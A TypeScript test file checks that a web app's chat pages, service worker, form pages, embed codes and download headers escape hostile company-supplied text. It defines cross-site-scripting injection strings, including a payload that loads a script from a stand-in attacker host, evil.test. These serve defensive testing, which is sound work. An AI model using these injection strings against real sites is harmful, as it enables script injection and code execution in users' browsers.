import { createContext, Script } from "node:vm";
import { describe, expect, it } from "vitest";
import { embedCodes } from "~/domain/forms/embed-codes";
import { defaultFormDocument } from "~/domain/forms/form-document";
import { toFormRecord } from "~/domain/forms/forms.server";
import { publicFields } from "~/domain/forms/public-fields";
import { formPage } from "~/domain/forms/public-page.server";
import { formStyleCss } from "~/domain/forms/render-form";
import { defaultChatBranding } from "~/domain/webchat/branding/branding-schema";
import {
  chatManifest,
  RETIRED_SERVICE_WORKER,
  serviceWorkerScript,
} from "~/domain/webchat/chat/chat-app-shell.server";
import {
  brandingStyle,
  chatPage,
  pageContext,
  previewPage,
  signInPage,
} from "~/domain/webchat/chat/chat-page.server";
import { attachmentDisposition } from "./attachment";
import { scriptLiteral } from "./script-literal";

/**
 * Issue 32: no company text is ever spliced into JavaScript, CSS or a header. Every place that builds
 * a script, a style or a page by hand is run here with hostile company text (line breaks, "*\/",
 * "</script>", quotes, U+2028) in every field it takes; each test names its builder. Checked and left
 * out: the e-mail subject (nodemailer encodes it on one line), embed-codes' iframe and script tags
 * (the form's id only, escaped: tested below), the 503 page and the captcha script tags (operator
 * configuration, no company text), the chat's and forms' static scripts (public/, no server text).
 */

const PAYLOAD = "importScripts('https://evil.test/p.js')";
const HOSTILE = [
  `Demo\n${PAYLOAD}//`,
  `*/ ${PAYLOAD} /*`,
  `</script><script>${PAYLOAD}</script>`,
  `"; ${PAYLOAD}; "`,
  `'\u2028${PAYLOAD}\u2029'`,
  `</style><style>body{display:none}`,
  `x" onload="${PAYLOAD}`,
];

function hostileBranding(text: string) {
  return {
    ...defaultChatBranding("Demo Co", "demo-chat"),
    pageTitle: text,
    longAppName: text,
    shortAppName: text,
    welcomeTitleText: text,
    welcomeBodyText: text,
    welcomeButtonText: text,
    faqLink: `https://example.com/${text}`,
    mainElementColor: `red;}</style><script>${PAYLOAD}</script>`,
    favicon: `/x.png");${PAYLOAD};("`,
  };
}

function chatContext(text: string, base = "/c/demo-chat") {
  return pageContext(
    { accountId: "a", companyName: text, subdomain: "demo-chat", branding: hostileBranding(text) },
    base,
    "en",
  );
}

/** Runs a worker script with a stand-in `self`: what it registers and whether it called importScripts. */
function runWorker(source: string) {
  const calls: string[] = [];
  const listeners: string[] = [];
  const self = {
    addEventListener: (type: string) => listeners.push(type),
    location: { origin: "https://app.example.com" },
  };
  new Script(source).runInContext(
    createContext({ self, importScripts: (url: string) => calls.push(url), caches: {}, fetch: () => {} }),
  );
  return { calls, listeners };
}

/** The <script> and <style> elements of a page, as the HTML tokenizer would end them. */
function elementsOf(html: string, tag: "script" | "style") {
  return [...html.matchAll(new RegExp(`<${tag}\\b([^>]*)>([\\s\\S]*?)</${tag}`, "gi"))].map((m) => ({
    attributes: m[1],
    content: m[2],
  }));
}

describe.each(HOSTILE)("company text %j", (text) => {
  it("serviceWorkerScript (/c/{subdomain}/sw.js): parses, holds none of it, calls no importScripts", () => {
    for (const base of ["/c/demo-chat", ""]) {
      const source = serviceWorkerScript(chatContext(text, base));
      // Company values (here an image path) appear only inside JSON string literals.
      expect(source.replace(/"(?:[^"\\\n]|\\.)*"/g, '""')).not.toContain("importScripts");
      expect(source).not.toContain(text);
      const run = runWorker(source);
      expect(run.calls).toEqual([]);
      expect(run.listeners).toEqual(["install", "activate", "fetch"]);
    }
    expect(runWorker(RETIRED_SERVICE_WORKER).calls).toEqual([]);
  });

  it("chatManifest (/c/{subdomain}/manifest.webmanifest): JSON whose names are the text itself", () => {
    const manifest = JSON.parse(JSON.stringify(chatManifest(chatContext(text))));
    expect(manifest.name).toBe(text);
    expect(manifest.theme_color).toBe("#1F5199");
  });

  it("chatDocument (sign-in, chat and preview pages): its two scripts and one style stay as written", () => {
    const ctx = chatContext(text);
    const message = { id: "m1", author: "staff" as const, body: text, createdAt: new Date(0).toISOString() };
    for (const html of [
      signInPage(ctx, { email: text, error: text }),
      chatPage(ctx, { name: text, messages: [message], clientKey: text, error: text }),
      previewPage(ctx),
    ]) {
      const scripts = elementsOf(html, "script");
      expect(scripts.map((s) => s.attributes)).toEqual([
        ' type="application/json" id="cb-data"',
        ' src="/chat-app/chat.js?v=1" defer',
      ]);
      expect(JSON.parse(scripts[0].content)).toMatchObject({ subdomain: "demo-chat" });
      expect(scripts[0].content).not.toMatch(/[<\u2028\u2029]/);
      const styles = elementsOf(html, "style");
      expect(styles).toHaveLength(1);
      expect(styles[0].content).toBe(`:root{${brandingStyle(ctx.company.branding)}}`);
      expect(styles[0].content).not.toContain(PAYLOAD);
      expect(html).not.toContain(`onload="${PAYLOAD}`);
    }
  });

  it("brandingStyle (the chat's CSS variables): only hex colours, a default for anything else", () => {
    expect(brandingStyle(hostileBranding(text))).toMatch(/^--cb-main:#1F5199;/);
    expect(brandingStyle(hostileBranding(text))).not.toMatch(/[<>{}"'\n]/);
  });

  it("formStyleCss and the public form page (/contact-form-builder/m/{id}), from a stored row never checked", () => {
    const document = defaultFormDocument();
    const row = {
      id: "00000000-0000-4000-8000-000000000001",
      accountId: "00000000-0000-4000-8000-000000000002",
      disabled: false,
      templateName: document.templateName,
      createdAt: new Date(0),
      updatedAt: new Date(0),
      elements: document.elements.map((element, index) =>
        index === 0
          ? { ...element, label: text, style: { textAlign: `left" onclick="${PAYLOAD}` } }
          : index === 1
            ? { ...element, id: `x" onclick="${PAYLOAD}` }
            : element,
      ),
      style: {
        ...document.style,
        micrositePageTitle: text,
        successMessage: text,
        errorMessageColor: `red}</style><script>${PAYLOAD}</script>`,
        themeStyle: { ...document.style.themeStyle, backgroundWidth: `1px;}*{${PAYLOAD}` },
        numberOfHidingDays: `1" onclick="${PAYLOAD}`,
      },
    };
    const form = toFormRecord(row);
    const css = formStyleCss(form.style);
    expect(css).not.toContain(PAYLOAD);
    expect(css).toBe(
      formStyleCss({
        ...document.style,
        micrositePageTitle: form.style.micrositePageTitle,
        successMessage: form.style.successMessage,
      }),
    );
    const html = new TextDecoder().decode(
      formPage(
        {
          form,
          companyName: text,
          country: "US",
          language: "en",
          fields: publicFields(form.elements, "en"),
          consentText: null,
          attributeTypes: {},
        },
        null,
      ),
    );
    expect(elementsOf(html, "style").map((s) => s.content)).toEqual([expect.any(String), css]);
    expect(elementsOf(html, "script").every((s) => s.content === "")).toBe(true);
    expect(html).not.toContain(`onclick="${PAYLOAD}`);
    expect(html).not.toContain(`<script>${PAYLOAD}`);
  });

  it("embedCodes (the publish popover's iframe and script tags): the form id stays inside its attribute", () => {
    const codes = embedCodes("https://app.example.com", text);
    expect(elementsOf(codes.scriptCode, "script")).toHaveLength(1);
    expect(codes.iframeCode).not.toContain(`onload="${PAYLOAD}`);
    expect(codes.scriptCode).not.toContain(`onload="${PAYLOAD}`);
  });

  it("attachmentDisposition (CSV downloads' Content-Disposition): one header value, no quote or line break", () => {
    expect(attachmentDisposition(`analytics-${text}.csv`)).toMatch(
      /^attachment; filename="[A-Za-z0-9._-]+"$/,
    );
  });

  it("scriptLiteral: a JSON literal that evaluates back to the text, with no '<' or line separator", () => {
    const literal = scriptLiteral({ text });
    expect(literal).not.toMatch(/[<\u2028\u2029\n]/);
    expect(new Script(`(${literal})`).runInNewContext({})).toEqual({ text });
  });
});
